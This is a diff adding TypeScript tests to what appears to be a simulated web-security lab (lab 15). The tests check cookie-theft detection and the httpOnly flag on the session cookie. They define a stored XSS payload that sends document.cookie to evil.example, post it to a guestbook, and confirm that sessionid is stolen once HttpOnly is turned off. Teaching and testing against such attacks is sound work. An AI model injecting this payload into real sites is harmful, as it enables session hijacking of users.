@@ -191,3 +191,50 @@ describe('checks of the present state', () => {
     expect(holds({ type: 'any', checks: [no, { type: 'all', checks: [no] }] })).toBe(false);
   });
 });
+
+describe('lab 15: stolen and cookie httpOnly', () => {
+  const STEAL = "<script>new Image().src='http://evil.example/steal?c='+document.cookie</script>";
+
+  async function guestbookTrap(world: World) {
+    world.addTab();
+    await world.navigate('B', '/myapp/guestbook/');
+    await world.submitForm('B', 0, { message: STEAL });
+  }
+
+  it('stolen: a non-empty document.cookie received since the step began', async () => {
+    const { world } = testWorld();
+    await guestbookTrap(world); // B has no cookies: an empty value arrives
+    await logIn(world, 'alice');
+    const holds = from(world);
+    expect(holds({ type: 'stolen', present: false })).toBe(true);
+    await world.navigate('A', '/myapp/guestbook/'); // HttpOnly: '' again
+    expect(world.stolen.length).toBe(2);
+    expect(holds({ type: 'stolen', present: false })).toBe(true);
+    expect(holds({ type: 'stolen', present: true })).toBe(false);
+    world.applySettings({ SESSION_COOKIE_HTTPONLY: false });
+    // Logged in, /myapp/connection/ shows no form: log out (which sends the cookie again) first.
+    await world.navigate('A', '/myapp/logout/');
+    await logIn(world, 'alice');
+    await world.navigate('A', '/myapp/guestbook/');
+    expect(holds({ type: 'stolen', present: true })).toBe(true);
+    expect(holds({ type: 'stolen', present: true, contains: 'sessionid=' })).toBe(true);
+    expect(holds({ type: 'stolen', present: true, contains: 'csrftoken' })).toBe(false);
+    expect(holds({ type: 'stolen', present: false })).toBe(false);
+    // A new step does not see the old theft.
+    expect(from(world)({ type: 'stolen', present: false })).toBe(true);
+  });
+
+  it('cookie: httpOnly compares the stored flag', async () => {
+    const { world } = testWorld();
+    const holds = from(world);
+    const check = { type: 'cookie', name: 'sessionid', present: true } as const;
+    expect(holds({ ...check, httpOnly: true })).toBe(false);
+    await logIn(world, 'alice');
+    expect(holds({ ...check, httpOnly: true })).toBe(true);
+    expect(holds({ ...check, httpOnly: false })).toBe(false);
+    world.applySettings({ SESSION_COOKIE_HTTPONLY: false });
+    expect(holds({ ...check, httpOnly: true })).toBe(true); // the jar keeps what it was sent
+    await world.navigate('A', '/myapp/logout/'); // the tutorial's logout saves: Set-Cookie again
+    expect(holds({ ...check, httpOnly: false })).toBe(true);
+  });
+});
